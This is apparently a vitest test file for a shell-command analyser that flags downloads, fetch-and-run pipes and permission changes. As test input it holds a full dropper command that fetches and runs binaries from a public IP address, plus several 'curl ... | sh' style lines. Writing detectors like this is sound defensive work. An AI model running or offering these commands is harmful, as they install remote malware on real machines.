import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyseArguments, analyseCommand } from './analyse-command.js';
import { BENIGN_COMMANDS, HOSTILE_COMMANDS, NOTED_COMMANDS } from './testing/command-samples.js';

const CASE =
  '(cd /dev;(busybox wget -O x86 http://51.81.104.115/nuts/x86||curl -s -o x86 http://51.81.104.115/nuts/x86 );chmod 777 x86;./x86 reactOnMynuts;(busybox wget -q http://51.81.104.115/nuts/bolts -O-||wget -q http://51.81.104.115/nuts/bolts -O-||curl -s http://51.81.104.115/nuts/bolts)|sh)&';

describe('analyseCommand', () => {
  it.each(BENIGN_COMMANDS)('is silent about %s', (command) => {
    expect(analyseCommand(command).behaviours.filter(({ weight }) => weight !== 'note')).toEqual([]);
  });

  it.each(NOTED_COMMANDS)('only notes %s', (command, kind) => {
    const { behaviours, weight } = analyseCommand(command);
    expect(behaviours.map((one) => one.kind)).toContain(kind);
    expect(weight).toBe('note');
  });

  it.each(HOSTILE_COMMANDS)('sees %s as %s', (command, kind) => {
    expect(analyseCommand(command).behaviours.map((one) => one.kind)).toContain(kind);
  });

  it('reads the command of the December case in full', () => {
    const analysis = analyseCommand(CASE);
    expect(analysis.reading).toBe('syntax-tree');
    expect(analysis.weight).toBe('attack');
    const kinds = new Set(analysis.behaviours.map(({ kind }) => kind));
    expect([...kinds].sort()).toEqual(['download', 'fetch-and-run', 'permission-change', 'pipe-to-shell']);
    expect(analysis.indicators.map(({ type, value, role }) => `${type} ${value} ${role}`)).toEqual([
      'url http://51.81.104.115/nuts/x86 payload-server',
      'ipv4 51.81.104.115 payload-server',
      'path /dev/x86 dropped-file',
      'url http://51.81.104.115/nuts/bolts payload-server',
    ]);
  });

  it('gives exact spans, also inside nested texts', () => {
    const text = `nohup sh -c "cd /tmp; chmod 777 a; id" &`;
    const change = analyseCommand(text).behaviours.find(({ kind }) => kind === 'permission-change');
    expect(text.slice(change?.span.start, change?.span.end)).toBe('chmod 777 a');
    expect(change?.text).toBe('chmod 777 a');
  });

  it('says when the syntax is broken and still reads it', () => {
    const analysis = analyseCommand('sh -c "wget http://198.51.100.7/a -O- | sh');
    expect(analysis.reading).toBe('tokens');
    expect(analysis.errors.length).toBeGreaterThan(0);
    expect(analysis.behaviours.map(({ kind }) => kind)).toContain('fetch-and-run');
  });

  it('sees the tail of a text that is longer than the limit', () => {
    const analysis = analyseCommand(`true ${' '.repeat(200_000)}; curl http://198.51.100.7/a | sh`);
    expect(analysis.truncated).toBe(true);
    expect(analysis.behaviours.map(({ kind }) => kind)).toContain('fetch-and-run');
  });

  it('gives addresses their scope', () => {
    const { indicators } = analyseCommand(
      'curl http://127.0.0.1/a http://10.0.0.7/b http://[2001:4860::1]/c http://evil.example/d',
    );
    expect(indicators.filter(({ type }) => type !== 'url').map(({ value, scope }) => [value, scope])).toEqual([
      ['127.0.0.1', 'loopback'],
      ['10.0.0.7', 'private'],
      ['2001:4860::1', 'public'],
      ['evil.example', null],
    ]);
  });

  it('reads argument vectors', () => {
    expect(analyseArguments(['sh', '-c', "wget -qO- 'http://198.51.100.7/a' | sh"]).weight).toBe('attack');
    expect(analyseArguments(['ffprobe', '-i', '/media/a;b $(x).mp3']).behaviours).toEqual([]);
  });

  it('never throws and stays quick on any text', () => {
    const piece = fc.constantFrom(
      '$(',
      '`',
      '"',
      "'",
      '|',
      ';',
      '(',
      ')',
      '{',
      '}',
      '<<E',
      'sh -c ',
      'wget x',
      '${a:-',
      '$IFS',
      '\n',
      '\\',
      'eval ',
      'for i in ',
      '<(',
      '[[',
      '((',
      'case ',
      'a=',
      '$a',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 300 }),
          fc.array(piece, { maxLength: 80 }).map((all) => all.join('')),
        ),
        (text) => {
          const from = performance.now();
          const analysis = analyseCommand(text);
          for (const { span } of analysis.behaviours) expect(span.start <= span.end && span.start >= 0).toBe(true);
          expect(performance.now() - from).toBeLessThan(1_000);
        },
      ),
      { numRuns: 400 },
    );
  });

  it.each(['$(', '`', '(', 'a|', '<<a ', '${a:-', 'sh -c "', 'a=$a$a;', '{a,b}', 'if ', 'eval "$x";', 'x|sh|'])(
    'bounds the time for a wall of %s',
    (piece) => {
      const from = performance.now();
      analyseCommand(piece.repeat(Math.floor(65_000 / piece.length)));
      expect(performance.now() - from).toBeLessThan(5_000);
    },
  );
});
